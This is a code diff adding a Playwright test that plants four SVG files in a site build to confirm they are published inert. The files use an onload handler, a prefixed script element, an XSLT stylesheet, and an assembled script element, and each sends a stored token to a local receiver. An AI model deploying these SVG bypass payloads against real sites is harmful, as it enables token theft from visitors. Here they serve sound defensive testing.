@@ -5,13 +5,17 @@ import {
   mkdtempSync,
   readFileSync,
   rmSync,
+  statSync,
   symlinkSync,
   writeFileSync,
 } from "node:fs";
+import { createServer, type Server } from "node:http";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 
 import { makeContentCopy } from "../../scripts/content/content-copy.ts";
+import { freePorts } from "../../scripts/nginx-test-server.mjs";
+import { contentTypeFor } from "../../scripts/start.mjs";
 import { allowTime, expect, test, WORK_TIME } from "../fixtures";
 import { listHtmlFiles } from "../site-paths";
 
@@ -102,9 +106,9 @@ const PLANTED = [
     problem: "public/images/evil.html: is a page or script the build did not make",
   },
   {
-    file: "public/images/evil.svg",
-    text: '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/x")</script></svg>',
-    problem: "public/images/evil.svg: carries script (a <script> element)",
+    file: "public/evil.svg",
+    text: '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
+    problem: "public/evil.svg: is an SVG outside public/images/",
   },
   {
     file: "public/images/headless.html",
@@ -133,3 +137,94 @@ for (const { file, text, problem } of PLANTED) {
     }
   });
 }
+
+// The four drawings that ran script past the old check (issue 42), planted in public/images/ of a copy: the build
+// publishes each as its inert copy, and each, opened directly on a host that sends no headers (GitHub Pages),
+// with a token stored as the editor stores it, runs nothing and sends nothing to the receiver.
+test.describe("planted drawings are published inert", () => {
+  test.describe.configure({ mode: "serial" });
+  const BUILD_DIR = "build/planted-drawings";
+  const TOKEN = "gho_planted-drawing-test-token";
+  const hits: string[] = [];
+  let receiver: Server;
+  let site: Server;
+  let origin = "";
+  let receiverUrl = "";
+  const remove: Array<() => void> = [];
+
+  test.beforeAll(async () => {
+    allowTime(2 * WORK_TIME.build);
+    const [receiverPort, sitePort] = await freePorts(2);
+    receiver = createServer((req, res) => {
+      hits.push(`${req.method} ${req.url}`);
+      res.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
+    });
+    await new Promise<void>((resolve) => receiver.listen(receiverPort, "127.0.0.1", resolve));
+    receiverUrl = `http://127.0.0.1:${receiverPort}`;
+    const run = `fetch('http://127.0.0.1:${receiverPort}/?t='+localStorage.getItem('token'));document.title='ran'`;
+    const drawings = {
+      "handler.svg": `<svg xmlns="http://www.w3.org/2000/svg" aria-label=">" onload="${run}" width="40" height="40"><rect width="40" height="40" fill="teal"/></svg>`,
+      "prefixed.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:a.b="http://www.w3.org/2000/svg" width="40" height="40"><a.b:script>${run}</a.b:script><rect width="40" height="40" fill="teal"/></svg>`,
+      "styled.svg": `<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="/images/transform.svg"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="teal"/></svg>`,
+      "transform.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xsl:version="1.0" width="40" height="40"><xsl:element name="{concat('scr','ipt')}">${run}</xsl:element><rect width="40" height="40" fill="teal"/></svg>`,
+    };
+    const copy = makeContentCopy("meridian-drawings-");
+    remove.push(copy.remove, () => rmSync(BUILD_DIR, { recursive: true, force: true }));
+    for (const [name, text] of Object.entries(drawings))
+      writeFileSync(join(copy.root, "public/images", name), text);
+    const build = spawnSync("npm", ["run", "build"], {
+      encoding: "utf8",
+      env: { ...process.env, CONTENT_ROOT: copy.root, BUILD_DIRECTORY: BUILD_DIR },
+    });
+    expect(build.status, build.stderr).toBe(0);
+    // The owner is told what each copy leaves out, with the file and line.
+    for (const warning of [
+      "public/images/handler.svg, line 1: the event handler onload on <svg> is left out of the published copy",
+      "public/images/prefixed.svg, line 1: the <a.b:script> element is left out",
+      "public/images/styled.svg, line 2: the processing instruction <?xml-stylesheet?> is left out",
+      "public/images/transform.svg, line 1: the <xsl:element> element is left out",
+    ])
+      expect(build.stdout).toContain(warning);
+    // A host that sends no headers at all: the files as they are, with their type.
+    site = createServer((req, res) => {
+      const { pathname } = new URL(req.url ?? "/", "http://x");
+      const path = join(BUILD_DIR, "client", pathname === "/" ? "index.html" : decodeURIComponent(pathname));
+      // Chromium asks for /favicon.ico beside an SVG document: nothing to see there.
+      if (!existsSync(path) || !statSync(path).isFile()) return void res.writeHead(204).end();
+      res.writeHead(200, { "Content-Type": contentTypeFor(path) }).end(readFileSync(path));
+    });
+    await new Promise<void>((resolve) => site.listen(sitePort, "127.0.0.1", resolve));
+    origin = `http://127.0.0.1:${sitePort}`;
+  });
+
+  test.afterAll(async () => {
+    for (const server of [receiver, site]) {
+      server?.closeAllConnections();
+      await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
+    }
+    for (const step of remove) step();
+  });
+
+  test("each, opened with a token stored on a host without headers, runs nothing and sends nothing", async ({
+    page,
+  }) => {
+    const requests: string[] = [];
+    page.on("request", (request) => requests.push(request.url()));
+    await page.goto(`${origin}/`);
+    await page.evaluate((token) => localStorage.setItem("token", token), TOKEN);
+    for (const name of ["handler.svg", "prefixed.svg", "styled.svg", "transform.svg"]) {
+      const response = await page.goto(`${origin}/images/${name}`);
+      expect(response?.status(), name).toBe(200);
+      expect(response?.headers()["content-security-policy"], name).toBeUndefined();
+      await expect(page.locator("rect"), name).toHaveCount(1);
+      // Its load event has fired: a handler or a script would have renamed the document by now.
+      expect.soft(await page.title(), name).not.toBe("ran");
+      const published = readFileSync(join(BUILD_DIR, "client/images", name), "utf8");
+      expect.soft(published, name).not.toMatch(/script|onload|xsl|<\?/i);
+    }
+    // A request sent after all four reaches the receiver: a drawing's, sent before it, would be there too.
+    await fetch(`${receiverUrl}/after`);
+    expect(hits).toEqual(["GET /after"]);
+    expect(requests.filter((url) => !url.startsWith(origin))).toEqual([]);
+  });
+});
